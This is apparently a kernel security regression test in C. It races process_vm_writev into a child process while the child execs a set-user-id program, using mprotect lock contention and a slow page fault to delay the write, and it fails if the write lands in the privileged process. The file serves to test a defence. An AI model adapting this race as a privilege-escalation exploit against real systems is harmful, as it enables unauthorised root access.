/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A user writes into a child of his own that executes a set-user-id program meanwhile. The call is judged while the child is still
 * his, and held up by a page that is long in coming (another thread keeps the address space locked), so that a kernel that
 * only judged it would carry it out on the privileged program.
 */
#include "attack.h"

#include <grp.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/uio.h>

enum { USER = 1000, WRITERS = 3, SECONDS = 10, VICTIM_MS = 30, PLANTED_CODE = 77, UNTOUCHED_CODE = 5 };
#define LOCKED_SIZE ((size_t)128 << 20)
#define PROGRAM "/tmp/set-id-program"

static volatile int planted;
static volatile pid_t victim;
static volatile bool stop;
static volatile long written;
static char *pages; /* the first holds the list of what is to be written; the rest takes long to protect */

static int wait_to_be_hit(void)
{
    for (int i = 0; i < VICTIM_MS && !planted; i++)
        usleep(1000);
    return planted && geteuid() == 0 ? PLANTED_CODE : UNTOUCHED_CODE;
}

static void make_program(const char *self)
{
    char buffer[65536];
    int in = open(self, O_RDONLY), out = open(PROGRAM, O_WRONLY | O_CREAT | O_TRUNC, 0700);
    for (ssize_t got; (got = read(in, buffer, sizeof(buffer))) > 0;)
        EXPECT(write(out, buffer, (size_t)got) == got);
    EXPECT(fchmod(out, 04755) == 0);
    close(in);
    close(out);
}

static void make_pages(void)
{
    struct iovec list = {(void *)&planted, sizeof(planted)};
    int fd = memfd_create("list", 0);
    EXPECT(fd >= 0 && write(fd, &list, sizeof(list)) == sizeof(list) && ftruncate(fd, 4096) == 0);
    pages = mmap(NULL, LOCKED_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    madvise(pages, LOCKED_SIZE, MADV_NOHUGEPAGE);
    mmap(pages, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_FIXED, fd, 0);
    madvise(pages + 4096, LOCKED_SIZE - 4096, 22 /* MADV_POPULATE_READ */);
}

static void *lock(void *data)
{
    for (; !stop; usleep(100)) {
        mprotect(pages, LOCKED_SIZE, PROT_READ);
        mprotect(pages, LOCKED_SIZE, PROT_READ | PROT_WRITE);
    }
    return data;
}

static void *plant(void *data)
{
    int one = 1;
    struct iovec own = {&one, sizeof(one)};
    while (!stop) {
        madvise(pages, 4096, MADV_DONTNEED);
        pid_t pid = victim;
        if (pid == 0)
            usleep(100);
        else if (process_vm_writev(pid, &own, 1, (struct iovec *)pages, 1, 0) > 0)
            written++;
    }
    return data;
}

static void aim(void)
{
    int hit = 0, rounds = 0;
    for (double end = seconds() + SECONDS; seconds() < end; rounds++) {
        pid_t pid = fork();
        if (pid == 0) {
            usleep(1500);
            execl(PROGRAM, PROGRAM, "victim", (char *)NULL);
            _exit(1);
        }
        victim = pid;
        int status = wait_within(pid, 10);
        victim = 0;
        hit += WIFEXITED(status) && WEXITSTATUS(status) == PLANTED_CODE;
    }
    printf("%d rounds, %ld writes before the exec\n", rounds, written);
    if (hit > 0)
        complain("wrote into a set-user-id program %d times", hit);
    if (written == 0)
        complain("the race was not run");
}

int main(int argc, char **argv)
{
    if (argc == 2 && strcmp(argv[1], "victim") == 0)
        return wait_to_be_hit();
    mkdir("/tmp", 01777);
    make_program(argv[0]);
    EXPECT(setgroups(0, NULL) == 0 && setgid(USER) == 0 && setuid(USER) == 0 && prctl(PR_SET_DUMPABLE, 1) == 0);
    make_pages();
    pthread_t threads[WRITERS + 1];
    for (int i = 0; i < WRITERS; i++)
        pthread_create(&threads[i], NULL, plant, NULL);
    pthread_create(&threads[WRITERS], NULL, lock, NULL);
    aim();
    stop = true;
    for (int i = 0; i <= WRITERS; i++)
        pthread_join(threads[i], NULL);
    check_alive("reaching into a child");
    return finish();
}
